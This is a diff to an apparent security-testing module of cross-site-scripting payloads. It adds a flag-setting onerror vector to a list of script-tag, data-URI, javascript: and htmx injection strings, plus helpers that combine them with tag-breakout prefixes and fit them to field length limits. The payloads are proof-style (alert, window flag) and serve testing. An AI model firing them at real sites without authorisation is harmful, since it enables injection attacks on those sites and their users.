@@ -1,6 +1,9 @@
 """Cross-site-scripting payloads: classic vectors, filter evasions, attribute and tag breakouts,
-and htmx attribute injection (the site loads htmx). Each vector comes raw and after three
-context breakers, so every payload is tried in text, attribute and raw-text positions."""
+htmx attribute injection (the site loads htmx), and a vector that only sets a window flag
+(`window.__xss`), for pages where a dialog would go unnoticed. Each vector comes raw and after
+three context breakers, so every payload is tried in text, attribute and raw-text positions."""
+
+from itertools import count
 
 VECTORS = [
     "<script>alert(1)</script>",
@@ -43,7 +46,29 @@ VECTORS = [
     "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>d</a>",
     "javascript:alert(1)",
     "[click](javascript:alert(1))",
+    "<img src=x onerror=window.__xss=1>",
 ]
 BREAKERS = ["", '"><', "'></p></textarea></title></script></style>", "--></code></pre>"]
 PAYLOADS = [breaker + vector for breaker in BREAKERS for vector in VECTORS]
 CORPUS = "\n".join(PAYLOADS)
+
+_next = count()
+
+
+def fit(limit: int) -> str:
+    """The next payload that fits in `limit` characters (cycling through the corpus)."""
+    while True:
+        payload = PAYLOADS[next(_next) % len(PAYLOADS)]
+        if len(payload) <= limit:
+            return payload
+
+
+def inline(limit: int = 10_000) -> str:
+    """Several payloads on one line (for single-line fields), within `limit` characters."""
+    parts, size = [], 0
+    for payload in PAYLOADS:
+        if size + len(payload) + 1 > limit:
+            break
+        parts.append(payload)
+        size += len(payload) + 1
+    return " ".join(parts)
